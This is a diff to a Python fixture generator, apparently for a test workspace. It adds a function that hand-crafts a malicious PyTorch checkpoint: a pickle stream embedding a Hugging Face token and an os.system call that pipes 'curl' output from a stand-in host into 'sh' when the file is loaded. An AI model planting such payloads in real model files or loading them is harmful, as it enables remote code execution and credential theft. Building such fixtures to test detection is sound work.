@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import io
 import json
 import struct
+import zipfile
 import zlib
 from base64 import b64encode
 from hashlib import sha1, shake_256
@@ -159,6 +161,7 @@ def build(root: Path) -> None:
     }
     for name, text in files.items():
         (root / name).write_text(text, encoding="utf-8", newline="\n")
+    (root / "encoder.pt").write_bytes(checkpoint())
 
 
 def training_notebook() -> dict[str, object]:
@@ -245,6 +248,24 @@ def png(width: int, height: int) -> bytes:
     rows = b"".join(b"\0" + noise[start : start + width] for start in range(0, len(noise), width))
     header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
     return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b"")
+
+
+def checkpoint() -> bytes:
+    """What torch.save makes of a dictionary, with a token among the arguments, and a call that nobody would expect."""
+    arguments = b"}" + _text("hub_token") + _text(HUGGING_FACE) + b"s"
+    call = b"cos\nsystem\n(" + _text("curl -s https://models.lab.example/setup | sh") + b"tR"
+    stream = b"\x80\x02}(" + _text("args") + arguments + _text("model") + call + b"u."
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w") as archive:
+        for name, data in (("data.pkl", stream), ("version", b"3\n"), ("data/0", bytes(64))):
+            archive.writestr(zipfile.ZipInfo(f"encoder/{name}", (2026, 11, 20, 9, 12, 44)), data)
+    return made.getvalue()
+
+
+def _text(value: str) -> bytes:
+    """The opcode of a string: https://github.com/python/cpython/blob/main/Lib/pickletools.py."""
+    raw = value.encode()
+    return b"X" + len(raw).to_bytes(4, "little") + raw
 
 
 def _chunk(name: bytes, data: bytes) -> bytes:
